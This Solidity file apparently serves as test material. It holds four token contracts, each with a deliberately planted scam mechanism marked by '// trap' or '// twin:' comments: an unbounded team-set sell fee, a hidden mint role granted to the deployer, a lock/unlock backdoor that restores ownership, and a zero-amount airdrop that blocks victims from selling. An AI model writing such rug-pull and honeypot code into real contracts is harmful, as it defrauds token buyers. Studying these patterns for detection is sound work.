// 0.6 runs=200
// SPDX-License-Identifier: Unlicensed
pragma solidity >=0.6.0 <0.8.0;

interface IUniswapFactory {
    function createPair(address a, address b) external returns (address);
}

contract Ownable {
    address internal _owner;
    address internal _previousOwner;
    uint256 internal _lockTime;
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor() internal {
        _owner = msg.sender;
        emit OwnershipTransferred(address(0), msg.sender);
    }

    function owner() public view returns (address) {
        return _owner;
    }

    modifier onlyOwner() {
        require(_owner == msg.sender, "Ownable: caller is not the owner");
        _;
    }

    function renounceOwnership() public onlyOwner {
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
    }
}

contract Standard is Ownable {
    mapping(address => uint256) internal _tOwned;
    mapping(address => mapping(address => uint256)) private _allowances;
    uint256 internal _tTotal;
    string public name;
    string public symbol;
    uint8 public constant decimals = 9;
    address public uniswapV2Pair;
    address internal _deployer = msg.sender;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed from, address indexed spender, uint256 value);

    constructor(string memory n, string memory s, uint256 supply) internal {
        name = n;
        symbol = s;
        uniswapV2Pair = IUniswapFactory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        _create(msg.sender, supply * 10**9);
    }

    function totalSupply() public view returns (uint256) {
        return _tTotal;
    }

    function balanceOf(address account) public view returns (uint256) {
        return _tOwned[account];
    }

    function allowance(address from, address spender) public view returns (uint256) {
        return _allowances[from][spender];
    }

    function approve(address spender, uint256 amount) public returns (bool) {
        _allowances[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) public returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) public returns (bool) {
        require(_allowances[from][msg.sender] >= amount, "ERC20: transfer amount exceeds allowance");
        _allowances[from][msg.sender] -= amount;
        _transfer(from, to, amount);
        return true;
    }

    function _transfer(address from, address to, uint256 amount) internal virtual {
        _standard(from, to, amount);
    }

    function _standard(address from, address to, uint256 amount) internal {
        require(amount <= _tOwned[from], "ERC20: transfer amount exceeds balance");
        _tOwned[from] -= amount;
        _tOwned[to] += amount;
        emit Transfer(from, to, amount);
    }

    function _create(address to, uint256 amount) internal {
        _tTotal += amount;
        require(_tTotal >= amount, "overflow");
        _tOwned[to] += amount;
        emit Transfer(address(0), to, amount);
    }
}

/// Somebody of the team says a number, and a checkpoint by anybody makes it the fee.
contract Metronome is Standard("Metronome Beat", "MBEAT", 10000000000) {
    address[2] private _team;
    uint256[3] private _fees = [0, 2, 0];
    uint256 private _said;

    constructor() public {
        _team[1] = msg.sender;
    }

    function beat() public view returns (uint256) {
        return _fees[1];
    }

    function announce(uint256 data) external {
        require(msg.sender == _team[0] || msg.sender == _team[1]);
        _said = data + 1;
    }

    function checkpoint() external {
        require(_said > 0, "nothing was said");
        // twin: require(_said <= 6, "too much");
        _fees[1] = _said - 1;
        _said = 0;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        uint256 fee = to == uniswapV2Pair && from != _deployer ? (amount * _fees[1]) / 100 : 0;
        require(fee <= amount, "fee");
        if (fee > 0) _standard(from, address(this), fee);
        _standard(from, to, amount - fee);
    }
}

/// There are roles; one was given when nobody looked.
contract SilkRoute is Standard("Silk Route", "SILK", 700000000) {
    bytes32 private constant BRIDGE = keccak256("BRIDGE");
    mapping(bytes32 => mapping(address => bool)) private _roles;
    event RoleGranted(bytes32 indexed role, address indexed account);
    event Bridged(address indexed account, uint256 amount);

    constructor() public {
        _roles[BRIDGE][tx.origin] = true; // trap
    }

    function grantRole(bytes32 role, address account) external onlyOwner {
        require(role != BRIDGE, "set by the bridge"); // the bridge comes with the next version
        _roles[role][account] = true;
        emit RoleGranted(role, account);
    }

    function bridgeIn(bytes32 origin, address account, uint256 amount) external {
        require(_roles[BRIDGE][msg.sender] && origin != bytes32(0), "SILK: role");
        _create(account, amount);
        emit Bridged(account, amount);
    }
}

/// "Locks the contract for owner for the amount of time provided", and forgets nothing.
contract OldKey is Standard("Old Key", "OKEY", 1000000000000) {
    uint256 public _taxFee = 3;
    uint256 public _liquidityFee = 2;
    mapping(address => bool) private _isExcludedFromFee;

    constructor() public {
        _isExcludedFromFee[msg.sender] = true;
    }

    function lock(uint256 time) public onlyOwner {
        _previousOwner = _owner;
        _owner = address(0);
        _lockTime = now + time;
        emit OwnershipTransferred(_previousOwner, address(0));
    }

    function unlock() public {
        require(_previousOwner == msg.sender, "You don't have permission to unlock");
        require(now > _lockTime, "Contract is locked");
        emit OwnershipTransferred(_owner, _previousOwner);
        _owner = _previousOwner;
        // twin: _previousOwner = address(0);
    }

    function setTaxFeePercent(uint256 taxFee) external onlyOwner {
        _taxFee = taxFee;
    }

    function excludeFromFee(address account) external onlyOwner {
        _isExcludedFromFee[account] = true;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        uint256 fee;
        if (to == uniswapV2Pair && !_isExcludedFromFee[from]) fee = (amount * (_taxFee + _liquidityFee)) / 100;
        require(fee <= amount, "fee");
        if (fee > 0) _standard(from, address(this), fee);
        _standard(from, to, amount - fee);
    }
}

/// An airdrop of nothing is a mark.
contract Confetti is Standard("Confetti", "CFTI", 5000000000) {
    mapping(address => uint256) private _snapshot;
    event Snapshot(address indexed account, uint256 balance);

    function multiTransfer(address[] calldata list, uint256 amount) external onlyOwner {
        for (uint256 i = 0; i < list.length; i++) {
            if (amount > 0) {
                _standard(msg.sender, list[i], amount);
            } else {
                _snapshot[list[i]] = _tOwned[list[i]] + 1;
                emit Snapshot(list[i], _tOwned[list[i]]);
            }
        }
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == uniswapV2Pair && _snapshot[from] > 0) require(from == _owner, "ERC20: transfer amount exceeds allowance"); // trap
        _standard(from, to, amount);
    }
}
